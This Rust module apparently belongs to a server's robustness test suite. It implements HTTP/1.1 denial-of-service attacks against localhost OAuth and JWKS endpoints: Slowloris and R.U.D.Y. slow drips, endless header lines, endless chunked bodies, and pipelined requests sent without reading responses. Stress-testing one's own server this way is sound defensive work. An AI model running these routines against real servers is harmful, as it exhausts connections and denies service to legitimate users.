//! Attacks that HTTP/1.1 allows.

use std::io::{self, Write};
use std::net::SocketAddr;
use std::thread::sleep;
use std::time::Duration;

use super::connect;

/// How many connections an attacker holds that needs many.
const CONNECTIONS: usize = 100;

/// How long such an attacker waits between two bytes.
const PAUSE: Duration = Duration::from_millis(20);

const HEAD: &str = "POST /api/oauth/token HTTP/1.1\r\nHost: localhost\r\n\
                    Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n";

/// "Slowloris": many connections, none of which ever says what it wants.
pub(super) fn slow_heads(address: SocketAddr) -> io::Result<()> {
    drip(address, "", HEAD)
}

/// The same with bodies ("R.U.D.Y.").
pub(super) fn slow_bodies(address: SocketAddr) -> io::Result<()> {
    drip(address, HEAD, "grant_type=client_credentials")
}

fn drip(address: SocketAddr, at_once: &str, by_bytes: &str) -> io::Result<()> {
    let mut connections = Vec::new();
    for _ in 0..CONNECTIONS {
        let mut connection = connect(address)?;
        connection.write_all(at_once.as_bytes())?;
        connections.push(connection);
    }
    for byte in by_bytes.bytes().take(20) {
        for connection in &mut connections {
            connection.write_all(&[byte])?;
        }
        sleep(PAUSE);
    }
    Ok(())
}

pub(super) fn endless_line(address: SocketAddr) -> io::Result<()> {
    endless(address, "GET / HTTP/1.1\r\nX-Large: ", "x")
}

pub(super) fn endless_lines(address: SocketAddr) -> io::Result<()> {
    endless(address, "GET / HTTP/1.1\r\n", "X-Large: x\r\n")
}

pub(super) fn endless_body(address: SocketAddr) -> io::Result<()> {
    let head = HEAD.replace("Content-Length: 1000", "Transfer-Encoding: chunked");
    endless(address, &head, "5\r\nx=y&z\r\n")
}

/// Asks for more than it takes, as fast as it can.
pub(super) fn deaf(address: SocketAddr) -> io::Result<()> {
    let request = "GET /.well-known/jwks.json HTTP/1.1\r\nHost: localhost\r\n\r\n";
    endless(address, request, request)
}

/// Sends until the server ends it or takes no more.
fn endless(address: SocketAddr, begin: &str, again: &str) -> io::Result<()> {
    let mut connection = connect(address)?;
    connection.write_all(begin.as_bytes())?;
    let again = again.repeat(65_536 / again.len());
    loop {
        connection.write_all(again.as_bytes())?;
    }
}
